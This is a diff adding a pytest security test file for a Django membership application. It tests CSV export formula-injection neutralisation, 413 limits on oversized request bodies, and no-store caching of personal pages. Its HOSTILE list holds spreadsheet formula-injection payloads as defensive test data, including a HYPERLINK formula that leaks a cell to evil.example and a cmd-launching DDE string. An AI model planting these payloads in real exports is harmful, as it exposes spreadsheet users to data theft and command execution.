@@ -1,0 +1,189 @@
+"""Insider tests for promise 7 (docs/security.md §7): bounded, well-formed input and safe
+exports. Findings 14 (formula injection in CSV exports), 16 (huge bodies, over-long and
+control characters in titles and names) and part of 18 (no caching of personal pages).
+Run on SQLite and, with DATABASE_URL set, on PostgreSQL."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from typing import Any
+
+import pytest
+from django.test import Client
+from django.urls import reverse
+
+from accounts.world import World, build_world
+from moot.csv_export import FORMULA_PREFIXES, csv_text, neutralise_cell, restore_cell
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.fixture
+def world(db: Any) -> World:
+    return build_world()
+
+
+def _client(world: World, role: str) -> Client:
+    client = Client()
+    client.force_login(world.users[role])
+    return client
+
+
+def _rows(body: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(body.decode("utf-8"))))
+
+
+# --- finding 14: one CSV writer that neutralises formula prefixes ---------------------------
+
+
+@pytest.mark.parametrize("value", HOSTILE)
+def test_the_csv_writer_neutralises_each_formula_prefix_and_restores_it(value: str) -> None:
+    written = neutralise_cell(value)
+    assert written == "'" + value
+    [row] = _rows(csv_text(["cell"], [[value]]).encode())[1:]
+    assert not row[0].startswith(FORMULA_PREFIXES)
+    assert restore_cell(row[0]) == value
+
+
+def test_plain_values_numbers_and_apostrophes_are_written_as_they_are() -> None:
+    assert neutralise_cell("Ada") == "Ada"
+    assert neutralise_cell(-5) == -5
+    assert neutralise_cell(None) == ""
+    assert restore_cell("'quoted") == "'quoted"  # not an apostrophe the writer added
+
+
+def test_the_members_export_neutralises_formulas_and_still_imports(world: World) -> None:
+    target = world.target
+    target.first_name = HOSTILE[0]
+    target.last_name = "@Lovelace"
+    target.phone = "+44 1632 960001"
+    target.save()
+    response = _client(world, "secretary").get(
+        reverse("members:export"), {"unit": world.riverside.pk}
+    )
+    assert response.status_code == 200
+    rows = _rows(response.content)
+    header, body = rows[0], rows[1:]
+    [row] = [r for r in body if r[header.index("number")] == target.number]
+    for column in ("first_name", "last_name", "phone"):
+        assert not row[header.index(column)].startswith(FORMULA_PREFIXES), column
+    assert row[header.index("first_name")] == "'" + HOSTILE[0]
+    # The import reads back exactly what was stored: the same row under a new number.
+    from moot.members.actions import do_import_members
+    from moot.members.models import Member
+
+    row[header.index("number")] = "X0000001"
+    again = csv_text(header, [[restore_cell(cell) for cell in row]])
+    report = do_import_members(
+        again, unit_default=None, dry_run=False, acting_user=world.users["national_staff"]
+    )
+    assert report.created == 1, report.errors
+    copy = Member.objects.get(number="X0000001")
+    assert (copy.first_name, copy.last_name, copy.phone) == (
+        HOSTILE[0],
+        "@Lovelace",
+        "+44 1632 960001",
+    )
+
+
+def test_no_module_writes_csv_with_the_bare_csv_writer() -> None:
+    """Every export goes through moot.csv_export (the counting package, which imports nothing
+    of moot, writes only counts and candidate names it was given, and is outside this rule)."""
+    from pathlib import Path
+
+    import moot
+
+    root = Path(moot.__file__).parent
+    offenders = [
+        str(path.relative_to(root))
+        for path in root.rglob("*.py")
+        if "counting" not in path.parts
+        and path.name != "csv_export.py"
+        and ("csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text())
+    ]
+    assert offenders == []
+
+
+# --- finding 16: request bodies have a limit ------------------------------------------------
+
+
+def test_a_3mb_json_body_gets_a_json_413_not_a_500(world: World) -> None:
+    body = json.dumps({"title": "x" * (3 * 1024 * 1024)})
+    response = _client(world, "secretary").post(
+        "/api/affiliations/", data=body, content_type="application/json"
+    )
+    assert response.status_code == 413
+    assert response["Content-Type"].startswith("application/json")
+    detail = response.json()["detail"]
+    assert "limit is 1,048,576 bytes" in detail
+
+
+def test_a_huge_form_post_gets_a_plain_413_page(world: World) -> None:
+    response = _client(world, "secretary").post(
+        reverse("members:import"), data={"notes": "x" * (2 * 1024 * 1024)}
+    )
+    assert response.status_code == 413
+    assert response["Content-Type"].startswith("text/html")
+    assert "at most 1,048,576 bytes" in response.content.decode()
+
+
+def test_a_chunked_form_body_over_the_limit_is_413_too(world: World, settings: Any) -> None:
+    """No Content-Length: Django's own limit (DATA_UPLOAD_MAX_MEMORY_SIZE) stops the read."""
+    from moot.site.middleware import RequestSizeLimitMiddleware
+
+    assert settings.DATA_UPLOAD_MAX_MEMORY_SIZE == settings.MOOT_MAX_BODY_BYTES
+    from django.core.exceptions import RequestDataTooBig
+    from django.test import RequestFactory
+
+    request = RequestFactory().post("/members/import/", data={"a": "b"})
+    request.user = world.users["secretary"]
+    middleware = RequestSizeLimitMiddleware(lambda r: None)  # type: ignore[arg-type,return-value]
+    response = middleware.process_exception(request, RequestDataTooBig("too big"))
+    assert response is not None
+    assert response.status_code == 413
+
+
+# --- finding 18 (part): no-store on answers to a signed-in caller ---------------------------
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        lambda w: reverse("members:detail", args=[w.target.pk]),
+        lambda w: f"/api/members/{w.target.pk}",
+        lambda w: "/api/members/me",
+        lambda w: reverse("dashboard"),
+    ],
+    ids=["member page", "member API", "own record API", "dashboard"],
+)
+def test_answers_with_personal_data_are_not_stored(world: World, path: Any) -> None:
+    response = _client(world, "secretary").get(path(world))
+    assert response.status_code == 200
+    assert "no-store" in response["Cache-Control"]
+
+
+def test_an_api_token_answer_is_not_stored(world: World) -> None:
+    from moot.accounts.actions import do_create_api_token
+
+    user = world.users["secretary"]
+    _, raw = do_create_api_token(user, name="script", acting_user=user)
+    response = Client().get(f"/api/members/{world.target.pk}", HTTP_AUTHORIZATION=f"Bearer {raw}")
+    assert response.status_code == 200
+    assert "no-store" in response["Cache-Control"]
+
+
+def test_a_public_answer_to_an_anonymous_caller_is_left_cacheable(world: World) -> None:
+    response = Client().get("/healthz")
+    assert response.status_code == 200
+    assert "no-store" not in response.get("Cache-Control", "")
+    signed_in = _client(world, "member").get("/healthz")
+    assert "no-store" in signed_in["Cache-Control"]
